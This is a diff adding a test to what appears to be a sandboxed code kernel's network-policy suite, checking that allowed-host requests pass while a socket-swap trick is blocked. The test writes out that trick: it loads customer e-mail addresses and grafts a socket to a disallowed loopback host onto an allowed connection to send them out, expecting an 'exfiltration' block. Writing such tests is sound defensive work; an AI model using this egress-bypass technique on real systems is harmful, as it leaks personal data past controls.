@@ -183,3 +183,47 @@ def test_ordinary_http_gets_still_work(k: Kernel, rec: Recorder) -> None:
     out = k.ok(f"import urllib.request, requests\nU = 'http://127.0.0.1:{rec.port}/x?city=Paris'\n"
                "print(urllib.request.urlopen(U).read(), requests.get(U).status_code)")
     assert "b'city,n\\n\\n' 200" in out.text, out.text
+
+
+class _At(Recorder):
+    """A recorder on another loopback address (127.0.0.2): a host the policy does not allow."""
+
+    def __init__(self, host: str) -> None:
+        import threading
+
+        self.sock = socket.socket()
+        self.sock.bind((host, 0))
+        self.sock.listen(16)
+        self.sock.settimeout(0.2)
+        self.port = self.sock.getsockname()[1]
+        self.received = bytearray()
+        self._stop = False
+        self.thread = threading.Thread(target=self._serve, daemon=True)
+        self.thread.start()
+
+
+def test_an_allowed_host_receives_and_a_swapped_socket_does_not(work_root: Any) -> None:
+    """With 127.0.0.1 in `network.allow_hosts`, an HTTP GET carrying an e-mail reaches it
+    (the policy allows that host); the same connection's `sock` swapped for one to 127.0.0.2
+    is judged by its own peer, and nothing reaches 127.0.0.2."""
+    from tests.conftest import new_workspace
+    from tests.kernelutil import guarded_kernel
+
+    d = new_workspace(work_root, data=False)
+    allowed, other = Recorder(), _At("127.0.0.2")
+    policy = "version: 1\nextends: default\nnetwork:\n  allow_hosts: ['127.0.0.1']\n"
+    try:
+        with guarded_kernel(d, policy=policy, warehouse=50, connect=True) as kk:
+            kk.ok("import http.client, urllib.request\n"
+                  "df = con.sql('SELECT * FROM customers ORDER BY id').df()\n"
+                  "E = df.email.tolist()")
+            kk.ok(f"urllib.request.urlopen('http://127.0.0.1:{allowed.port}/?e=' + E[0]).read()")
+            assert b"user0@example.com" in _settled(allowed, 10)
+            kk.blocked(f"c = http.client.HTTPConnection('127.0.0.1', {allowed.port})\n"
+                       f"o = http.client.HTTPConnection('127.0.0.2', {other.port})\n"
+                       "o.connect()\nc.sock = o.sock\nc.send(','.join(E).encode())",
+                       "exfiltration")
+            _no_raw(_settled(other))
+    finally:
+        allowed.close()
+        other.close()
